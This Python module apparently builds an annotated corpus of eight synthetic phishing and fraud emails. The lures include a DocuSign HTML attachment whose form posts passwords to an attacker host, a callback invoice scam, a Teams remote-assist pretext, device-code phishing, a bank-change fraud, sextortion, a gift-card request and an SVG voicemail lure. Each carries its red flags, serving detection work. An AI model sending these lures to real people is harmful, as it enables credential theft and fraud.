"""English attack messages (8)."""
import html as _h

import company as C
import files
import ids
import infra as I
from core import Text, Att, Multi, m, alt, html_wrap, link_html, quote_lines

W = C.who


@m('en', 'docusign-lure-html-attachment')
def a_docusign_html(ctx):
    t = I.T(2026, 10, 20, 13, 14, 2)
    rcpt = W('oliver.whitfield')
    r = I.m365(ctx.rng, t, rcpt[1], 'ashdownplumbing.co.uk', pod=3)
    post = 'https://envelope-secure-view.com/ds/v2/auth.php'
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Docusign - Review Document</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{{font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;margin:0}}
.box{{max-width:380px;margin:60px auto;background:#fff;padding:32px;border-top:4px solid #ffc820}}
input{{width:100%;padding:10px;margin:8px 0;border:1px solid #bbb;box-sizing:border-box}}
button{{width:100%;padding:11px;background:#4c00ff;color:#fff;border:0;font-weight:bold}}</style></head>
<body><div class="box">
<p style="font-size:22px;font-weight:bold">Docusign</p>
<p>Thornbury Landscapes Ltd sent you a document to review and sign.</p>
<p style="font-size:13px;color:#555">Thornbury_Example_Framework_Agreement_2027.pdf (3 pages)</p>
<p>To protect this envelope, please confirm the email address and password of the recipient mailbox.</p>
<form method="post" action="{post}">
<input type="hidden" name="env" value="{env}">
<input type="email" name="login" value="oliver.whitfield@example.com">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Review Document</button></form>
<p style="font-size:11px;color:#888">Powered by Docusign. Do not share this document.</p>
</div></body></html>
""".format(post=post, env=I.ruuid(ctx.rng))
    body_html = """<table width="100%" style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif"><tr><td align="center">
<table width="640" style="background:#ffffff"><tr><td style="background:#1e4ca1;padding:30px;color:#fff;text-align:center">
<p style="font-size:16px">Thornbury Landscapes Ltd sent you a document to review and sign.</p>
<p style="font-size:13px">Please open the attached secure document <b>Framework_Agreement_2027_Review.html</b> to view and sign.</p></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333">
<p><b>Emma Clarke</b><br>emma.clarke@thornburylandscapes.co.uk</p>
<p>Hi Oliver,<br>please review and sign the 2027 framework agreement at your earliest convenience so we can release the spring orders.</p>
<p>Kind regards,<br>Emma</p></td></tr>
<tr><td style="padding:24px;font-size:11px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</td></tr></table>
</td></tr></table>"""
    plain = """Thornbury Landscapes Ltd sent you a document to review and sign.

Please open the attached secure document Framework_Agreement_2027_Review.html
to view and sign.

Emma Clarke
emma.clarke@thornburylandscapes.co.uk

Hi Oliver,
please review and sign the 2027 framework agreement at your earliest
convenience so we can release the spring orders.

Kind regards,
Emma

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this
email, link, or access code with others.
"""
    a = Multi('alternative', [Text(plain, 'plain', 'utf-8', 'quoted-printable'),
                              Text(html_wrap(body_html, 'en', 'Helvetica').replace('%CHARSET%', 'utf-8'), 'html', 'utf-8', 'base64')],
              ctx.boundary(r))
    root = Multi('mixed', [a, Att(page.encode('utf-8'), 'text/html', 'Framework_Agreement_2027_Review.html', ct_extra='; charset="utf-8"')], ctx.boundary(r))
    return ctx.build(r, 'exchange', ('Thornbury Landscapes via Docusign', 'accounts@ashdownplumbing.co.uk'), [rcpt],
                     'Complete with Docusign: Thornbury_Example_Framework_Agreement_2027.pdf', I.rdate(t, 'GB'), root,
                     lang_tag='en-GB',
                     what='Fake DocuSign envelope with an HTML attachment that is a credential-harvesting login form',
                     why='Sent from the compromised Microsoft 365 tenant of an unrelated plumbing firm (ashdownplumbing.co.uk), not from DocuSign; DocuSign never delivers documents as HTML attachments; the attachment posts the mailbox password to envelope-secure-view.com with the address prefilled; impersonates a real customer contact')


@m('en', 'paypal-invoice-callback')
def a_paypal_toad(ctx):
    t = I.T(2026, 10, 22, 15, 37, 50)
    rcpt = W('priya.shah')
    r = I.paypal(ctx.rng, t, rcpt[1])
    inv = 'INV2-%s-%s-%s-%s' % tuple(I.rs(ctx.rng, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789', 4) for _ in range(4))
    link = 'https://www.paypal.com/invoice/p/#%s' % inv.replace('-', '')
    phone = '+44 20 7946 0183'
    note = ('Your Microsoft 365 Business Premium renewal (25 seats) has been processed. If you did not authorise this '
            'payment or wish to cancel and receive a refund, call our Billing Support on %s within 24 hours. '
            'Do not pay this invoice online.' % phone)
    plain = """Microsoft Business Billing sent you an invoice for £649.99 GBP

Invoice number: {inv}
Due date: 23 Oct 2026

Seller note:
{note}

View and pay invoice: {link}

Don't recognise this invoice? Contact the seller before paying.

PayPal is committed to preventing fraudulent emails.
Copyright © 1999-2026 PayPal. All rights reserved.
PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg
""".format(inv=inv, note=note, link=link)
    body_html = """<table width="600" align="center" style="font-family:Helvetica,Arial,sans-serif;color:#2c2e2f">
<tr><td style="padding:20px 0"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal"></td></tr>
<tr><td><h1 style="font-size:26px">Microsoft Business Billing sent you an invoice for £649.99&nbsp;GBP</h1>
<p>Invoice number: {inv}<br>Due date: 23 Oct 2026</p>
<p style="background:#f5f7fa;padding:14px"><b>Seller note</b><br>{note}</p>
<p><a href="{link}" style="background:#003087;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none">View and Pay Invoice</a></p>
<p style="font-size:12px;color:#687173">Don't recognise this invoice? Contact the seller before paying.</p>
<p style="font-size:11px;color:#687173">Copyright © 1999-2026 PayPal. All rights reserved.<br>PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg</p>
</td></tr></table>""".format(inv=inv, note=_h.escape(note), link=link)
    a = Multi('alternative', [Text(plain, 'plain', 'UTF-8', 'quoted-printable'),
                              Text(html_wrap(body_html, 'en', 'Helvetica').replace('%CHARSET%', 'UTF-8'), 'html', 'UTF-8', 'quoted-printable')],
              ctx.boundary(r))
    return ctx.build(r, 'service', ('service@paypal.co.uk', 'service@paypal.co.uk'), [rcpt],
                     'Invoice from Microsoft Business Billing (%s)' % inv, I.rdate(t, 'PT'), a, quote=True,
                     extra=[('X-MaxCode-Template', 'PPC001017'), ('PP-Correlation-Id', I.hexs(ctx.rng, 13)),
                            ('X-Email-Type-Id', 'PPC001017')],
                     what='Callback phishing (TOAD) through a genuine PayPal invoice: fake "Microsoft" renewal of £649.99 with a phone number in the seller note',
                     why='Abuses PayPal\'s real invoicing infrastructure (so the technical sender is genuine) but the seller is a fraudster\'s account named "Microsoft Business Billing"; the note urges a call to a non-Microsoft number "within 24 hours" and says not to pay online - the call leads to remote-access / refund fraud')


@m('en', 'helpdesk-teams-quick-assist-pretext')
def a_teams(ctx):
    t = I.T(2026, 11, 4, 9, 51, 27)
    rcpt = W('priya.shah')
    r = I.m365(ctx.rng, t, rcpt[1], 'egservicedesk.onmicrosoft.com', pod=2)
    text = """Hi Priya,

Our monitoring has flagged a spam attack on your mailbox this morning - you
have probably noticed hundreds of newsletter and sign-up confirmations
arriving since about 08:30. We are blocking the senders centrally, but a
small configuration change on your PC is needed to stop the flood.

Daniel from our service desk will call you on Microsoft Teams in the next
10-15 minutes (caller name "IT Help Desk"). Please accept the call and open
Quick Assist (press Ctrl + Windows + Q) - Daniel will give you a 6-digit code
so he can apply the filter settings. It takes about five minutes.

Please do not forward or delete the spam messages until we are done, we
need them for the analysis.

Kind regards
IT Service Desk
Example Group
"""
    body = Text(text, 'plain', 'us-ascii', '7bit')
    return ctx.build(r, 'exchange', ('IT Service Desk', 'servicedesk@egservicedesk.onmicrosoft.com'), [rcpt],
                     'Spam attack on your mailbox - Teams call from IT in 10 minutes', I.rdate(t, 'GB'), body,
                     lang_tag='en-GB',
                     what='Help-desk impersonation preparing a Teams vishing call and a Quick Assist remote session (follows an e-mail bombing wave)',
                     why='External throw-away Microsoft 365 tenant (egservicedesk.onmicrosoft.com) posing as internal IT; announces an unsolicited Teams call and asks the user to start Quick Assist and share the code - a known ransomware initial-access pattern; internal IT mails come from the internal relay')


@m('en', 'device-code-teams-invite')
def a_device_code(ctx):
    t = I.T(2026, 11, 10, 10, 2, 45)
    rcpt = W('oliver.whitfield')
    r = I.gmail(ctx.rng, t, rcpt[1])
    code = 'LD9QK7R4P'
    url = 'https://microsoft.com/devicelogin'
    plain = """Hi Oliver,

Following our call earlier - as discussed I've set up a short Teams
meeting to go through the 2027 price list and the new pallet deposit terms.
Our IT has moved external meetings to a secured room, so you need to
authorise your device once before joining:

1. Go to {url}
2. Enter the meeting access code: {code}
3. Sign in with your Example Group account - the meeting opens automatically.

The code is only valid for 15 minutes, so please join straight away.

Best regards,
James Hartley
Hartley Horticultural Supplies Ltd
Sales Director
""".format(url=url, code=code)
    html = ('<div dir="ltr"><p>Hi Oliver,</p><p>Following our call earlier - as discussed I\'ve set up a short Teams meeting to go through the 2027 price list '
            'and the new pallet deposit terms. Our IT has moved external meetings to a secured room, so you need to authorise your device once before joining:</p>'
            '<div style="border:1px solid #ddd;padding:16px;font-family:Segoe UI,Arial,sans-serif"><p style="font-size:18px;color:#464775"><b>Microsoft Teams</b></p>'
            '<p>1. Go to ' + link_html(url, url) + '<br>2. Enter the meeting access code: <b style="font-size:20px;letter-spacing:2px">' + code + '</b><br>'
            '3. Sign in with your Example Group account - the meeting opens automatically.</p>'
            '<p style="font-size:12px;color:#777">The code is only valid for 15 minutes.</p></div>'
            '<p>Best regards,<br>James Hartley<br>Hartley Horticultural Supplies Ltd<br>Sales Director</p></div>')
    a = Multi('alternative', [Text(plain, 'plain', 'UTF-8', '7bit', charset_upper=True),
                              Text(html + '\n', 'html', 'UTF-8', 'quoted-printable', charset_upper=True)], ctx.boundary(r))
    return ctx.build(r, 'gmail', ('James Hartley', 'jameshartley.hhs@gmail.com'), [rcpt],
                     'Teams meeting - 2027 price list review (access code)', I.rdate(t, 'GB'), a,
                     what='Device-code phishing: fake Teams "secured meeting" asks the victim to enter an attacker-generated code at microsoft.com/devicelogin',
                     why='The real Microsoft device-login page plus an attacker-initiated code hands the attacker OAuth tokens for the victim\'s account; Teams meetings never need a device code; sender is a Gmail address impersonating the supplier\'s sales director (the real domain is hartleyhort.co.uk), 15-minute pressure')


@m('en', 'compromised-supplier-bank-change')
def a_vdb(ctx):
    t = I.T(2026, 11, 13, 8, 22, 19)
    rcpt = W('monika.weiss')
    r = I.m365(ctx.rng, t, rcpt[1], 'vanderberg-bulbs.nl', pod=0)
    prev = '<DB9PR07MB7712%s@DB9PR07MB7712.eurprd07.prod.outlook.com>' % I.hexs(ctx.rng, 24, True)
    iban = ids.iban_fmt(C.VDB_FAKE)
    text = """Dear Monika,

Thank you for your message. Please be informed that following our annual
audit our Dutch account with ING is currently under review and cannot
receive payments until further notice. For invoice 2026-VDB-4471 and all
further payments, please use our account with our Belgian partner bank:

Beneficiary: Van der Berg Bloembollen B.V.
IBAN: {iban}
BIC: BMPBBEBBXXX
Reference: 2026-VDB-4471

The updated invoice with the new bank details is attached. As the bulbs for
your spring programme are already packed, we would appreciate payment today
so that we can release the shipment on Monday. Kindly send me the remittance
advice once payment has been made.

Kind regards,

Sanne de Vries
Export Sales | Van der Berg Bloembollen B.V.
Heereweg 214, 2161 BR Lisse, The Netherlands
T +31 252 417 330

From: Monika Weiß <monika.weiss@example.com>
Sent: Thursday, 12 November 2026 16:05
To: Sanne de Vries <sanne.devries@vanderberg-bulbs.nl>
Subject: AW: Invoice 2026-VDB-4471 / spring bulbs

Dear Ms de Vries,

we have received invoice 2026-VDB-4471; payment is scheduled for our
payment run on 20 November.

Best regards
Monika Weiß
Example Group GmbH - Accounts Payable
""".format(iban=iban)
    pdf = files.pdf([
        (15, True, 'Van der Berg Bloembollen B.V.'), 'Heereweg 214 - 2161 BR Lisse - The Netherlands', '',
        'Example Group GmbH, Am Baumschulweg 12, 26123 Oldenburg, Germany', '',
        (12, True, 'INVOICE 2026-VDB-4471 (updated)'), 'Date: 28-10-2026   Customer: 20518', '',
        '  18,000  Tulipa Triumph mix 11/12            0.118   2,124.00',
        '   9,500  Narcissus Tete-a-Tete 10/12          0.096     912.00',
        '   6,000  Crocus Grand Maitre 7/8              0.041     246.00',
        '   4,000  Allium Purple Sensation 10/12        0.168     672.00', '',
        (11, True, 'Total EUR 3,954.00 (intra-Community supply, VAT reverse charge)'), '',
        'Payment: Van der Berg Bloembollen B.V., IBAN ' + iban + ', BIC BMPBBEBBXXX',
    ], title='Invoice 2026-VDB-4471', author='Administratie', producer='Microsoft: Print To PDF', creator='Exact Online',
        date="D:20261113091500+01'00'")
    a = alt(ctx, r, text, None, 'us-ascii' if all(ord(c) < 128 for c in text) else 'iso-8859-1', 'quoted-printable',
            font='Calibri, sans-serif', lang='en')
    root = Multi('mixed', [a, Att(pdf, 'application/pdf', 'Invoice_2026-VDB-4471_updated.pdf')], ctx.boundary(r))
    return ctx.build(r, 'exchange', ('Sanne de Vries', 'sanne.devries@vanderberg-bulbs.nl'), [rcpt],
                     'RE: Invoice 2026-VDB-4471 / spring bulbs', I.rdate(t, 'CET'), root,
                     reply_to=('Sanne de Vries', 'sanne.devries@vanderberg-bulb.nl'), irt=prev, refs=prev, replies=2,
                     cc=[W('heiko.boehmer')], hcs='iso-8859-1', lang_tag='en-US',
                     what='Payment diversion from the genuinely compromised mailbox of bulb supplier Van der Berg, continuing a real invoice thread',
                     why='Although it comes from the supplier\'s real Microsoft 365 tenant, Reply-To silently points to the look-alike vanderberg-bulb.nl; the "account under review" story, a Belgian account for a Dutch company, a re-issued invoice and pressure to pay today are classic BEC signs')


@m('en', 'sextortion-bitcoin')
def a_sextortion(ctx):
    t = I.T(2026, 11, 21, 2, 14, 8)
    rcpt = W('priya.shah')
    btc = ids.btc_p2wpkh('audit82-sextortion-wallet')
    r = I.generic_smtp(ctx.rng, t, rcpt[1], 'mail.contabilidadesilva.com.br', '201-48-112-9.dsl.telesp.net.br',
                       '201.48.112.9', tls=None, inner=[
                           'from [45.141.215.83] (unknown [45.141.215.83])\n\tby mail.contabilidadesilva.com.br (Postfix) with ESMTPA id 7B1C0A2F4D\n\tfor <%s>; %s' % (
                               rcpt[1], I.rdate(I.plus(t, 1), 'BRT', 'e', True).replace('(-03)', '(-03)'))],
                       rp='<contato@contabilidadesilva.com.br>')
    text = """Hello Priya,

I'll get straight to the point. I know your password: Bristol#2019

Some months ago I gained access to the devices you use for browsing the
internet. Since then I have been watching your online activity, including
the websites you visit when you think nobody is looking. I made a split-
screen recording: your camera on one side, the video you were watching on
the other. I also have all your contacts from email and social networks.

If you want me to delete everything, transfer 1450 USD in Bitcoin to this
wallet:

{btc}

(copy and paste it, it is case sensitive)

You have 48 hours from the moment you open this email. I get a
notification when you read it. If I do not receive the payment, the video
goes to all your colleagues and contacts. If I do, everything is deleted
and you will never hear from me again.

Do not reply - this mailbox is not monitored. Going to the police will not
help, I cannot be traced.
""".format(btc=btc)
    body = Text(text, 'plain', 'utf-8', 'base64')
    return ctx.build(r, 'phpmailer', ('Priya Shah', 'priya.shah@example.com'), [rcpt],
                     'Priya Shah - payment pending for your account', I.rdate(t, 'UTC'), body,
                     mailer=('X-Mailer', 'Microsoft Outlook Express 6.00.2900.5512'),
                     msgid='<%s$%s@example.com>' % (I.hexs(ctx.rng, 12), I.hexs(ctx.rng, 8)),
                     what='Sextortion with a Bitcoin (bech32) wallet and an old leaked-style password, victim\'s own address forged as sender',
                     why='From header forges the recipient\'s own address while the mail is relayed by a Brazilian accounting firm\'s server (envelope contato@contabilidadesilva.com.br, no TLS, DSL rDNS); extortion, 48-hour deadline, BTC payment, base64 body to dodge keyword filters')


@m('en', 'gift-card-ceo-gmail')
def a_giftcard(ctx):
    t = I.T(2026, 12, 4, 11, 8, 31)
    rcpt = W('oliver.whitfield')
    r = I.gmail(ctx.rng, t, rcpt[1])
    text = """Oliver,

Are you in the office? I need a small favour handled discreetly today. We
want to thank a few of our key landscaping clients in the UK before
Christmas and I'd like it to be a surprise - please don't mention it to the
team yet.

Can you pick up 10 Apple gift cards at £100 each (Tesco or Argos will have
them)? Scratch off the backs, take a clear photo of each card and send the
pictures to me here. Keep the receipt, Priya can reimburse you from the
petty cash or via expenses next week.

I'm in meetings with the board all afternoon so email only, I can't take
calls.

Thanks,
Jörg

Sent from my iPhone
"""
    html = '<div dir="auto">' + text.replace('&', '&amp;').replace('\n\n', '</div><div dir="auto"><br></div><div dir="auto">').replace('\n', ' ') + '</div>\n'
    a = Multi('alternative', [Text(text, 'plain', 'UTF-8', 'quoted-printable', charset_upper=True),
                              Text(html, 'html', 'UTF-8', 'quoted-printable', charset_upper=True)], ctx.boundary(r))
    return ctx.build(r, 'gmail', ('Jörg Brückner', 'office.jbrueckner@gmail.com'), [rcpt],
                     'Quick favour', I.rdate(t, 'CET'), a, hcs='UTF-8', henc='Q',
                     what='Gift-card scam: "CEO" asks the UK country manager to buy Apple gift cards and send photos of the codes',
                     why='CEO display name on a random Gmail address, secrecy, "email only, no calls", gift cards with scratched codes photographed - a payment method only fraudsters ask for')


@m('en', 'svg-voicemail-attachment')
def a_svg(ctx):
    t = I.T(2026, 12, 8, 14, 40, 55)
    rcpt = W('priya.shah')
    r = I.cpanel(ctx.rng, t, rcpt[1], 'uk-lon-shared12.hostpresto.net', '185.199.220.47', 'office@harrogatejoinery.co.uk',
                 '102.88.34.19', '[127.0.0.1]', 'office@harrogatejoinery.co.uk', zone='GB')
    url = 'https://voicemsg-cloud-portal.com/play/?m=%s#cHJpeWEuc2hhaEBleGFtcGxlLmNvbQ==' % I.hexs(ctx.rng, 10)
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="460" height="240" viewBox="0 0 460 240">
  <rect width="460" height="240" rx="14" fill="#f3f6fb" stroke="#c9d3e3"/>
  <text x="28" y="52" font-family="Segoe UI, Arial, sans-serif" font-size="21" fill="#1f2d3d">New voice message</text>
  <text x="28" y="86" font-family="Segoe UI, Arial, sans-serif" font-size="14" fill="#4a5568">From: +44 117 496 0823 (Bristol)</text>
  <text x="28" y="108" font-family="Segoe UI, Arial, sans-serif" font-size="14" fill="#4a5568">To: priya.shah@example.com - Duration 00:47</text>
  <a xlink:href="{url}" target="_blank">
    <rect x="28" y="140" width="200" height="48" rx="8" fill="#0b66c3"/>
    <text x="62" y="171" font-family="Segoe UI, Arial, sans-serif" font-size="17" fill="#ffffff">&#9654; Play message</text>
  </a>
  <text x="28" y="222" font-family="Segoe UI, Arial, sans-serif" font-size="11" fill="#8a94a6">Sign in with your Microsoft 365 account to listen.</text>
</svg>
""".format(url=url.replace('&', '&amp;'))
    html = ('<p>You have received a new voice message.</p><p><b>Caller:</b> +44 117 496 0823<br><b>Received:</b> 08/12/2026 14:39<br>'
            '<b>Duration:</b> 00:47</p><p>Open the attached audio preview to listen.</p><p style="font-size:11px;color:#888">Voicemail Service</p>')
    root = Multi('mixed', [Text(html_wrap(html, 'en', 'Arial').replace('%CHARSET%', 'UTF-8'), 'html', 'UTF-8', 'quoted-printable', charset_upper=True),
                           Att(svg.encode('utf-8'), 'image/svg+xml', filename='VM_Preview_+441174960823_0047.svg')], ctx.boundary(r, 'phpmailer'))
    return ctx.build(r, 'phpmailer', ('Voicemail Service', 'office@harrogatejoinery.co.uk'), [rcpt],
                     '\U0001F50A New voice message from +44 117 496 0823 (00:47)', I.rdate(t, 'GB'), root,
                     hcs='UTF-8', henc='B', mailer=('X-Mailer', 'PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)'),
                     what='Fake voicemail notification with an SVG "audio preview" that links to a Microsoft 365 credential page',
                     why='Sent with stolen SMTP credentials of a small joinery (cPanel host, client IP in Nigeria); voicemail systems do not send SVG files; the SVG\'s button links to voicemsg-cloud-portal.com with the victim address base64-encoded')


MESSAGES = [a_docusign_html, a_paypal_toad, a_teams, a_device_code, a_vdb, a_sextortion, a_giftcard, a_svg]
